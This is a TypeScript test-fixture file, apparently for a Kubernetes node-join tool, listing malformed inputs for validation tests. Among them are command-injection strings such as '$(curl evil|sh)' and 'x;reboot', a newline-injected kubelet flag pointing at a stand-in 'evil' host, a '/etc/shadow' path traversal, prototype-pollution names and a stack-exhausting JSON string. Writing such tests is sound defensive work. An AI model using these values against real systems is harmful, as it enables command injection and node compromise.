/** Values that break out of a line, a shell word or an EnvironmentFile, or that no label has, by what is wrong with them. */
export const brokenValues: Readonly<Record<string, string>> = {
  'a line break and a kubelet flag': 'x\nKUBELET_FLAGS=--static-pod-url=http://evil',
  'a carriage return': 'x\rKUBELET_FLAGS=',
  'a line separator': 'x\u2028KUBELET_FLAGS=',
  'a blank and a flag': 'x --anonymous-auth=true',
  'a command substitution': '$(curl evil|sh)',
  backticks: '`reboot`',
  'a semicolon': 'x;reboot',
  quotes: `x"'y`,
  'a backslash at the end': 'x\\',
  'a percent specifier of systemd': '%n%h',
  'a heredoc end': 'JOINER_CONFIG',
  'a comma and a label': 'x,node-role.kubernetes.io/control-plane=',
  'an equals sign': 'a=b',
  'a tab': 'x\ty',
  'a NUL': 'x\u0000y',
  'an escape sequence': '\u001b[2J',
  'a bidi override': '\u202egnp.exe',
  'half a surrogate pair': 'x\ud800',
  'an emoji': '💥',
  'a path upwards': '../../etc/shadow',
  '64 characters': 'x'.repeat(64),
  '4,000 characters': 'y'.repeat(4000),
  'a leading dash': '-x',
  'a trailing dot': 'x.',
}

/** Names that every JavaScript object has. */
export const prototypeNames = [
  'constructor',
  'toString',
  'valueOf',
  '__proto__',
  'hasOwnProperty',
  'isPrototypeOf',
  'prototype',
]

/** So deep that what walks through it by calling itself runs out of stack. */
export const deepJson = `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`

/** Returns a name that Kubernetes takes, such as `hostile-pod-7`. */
export function nameOf(kind: string, index: number): string {
  return `hostile-${kind}-${index}`
}

export function times<T>(count: number, make: (index: number) => T): readonly T[] {
  return Array.from({ length: count }, (_, index) => make(index))
}
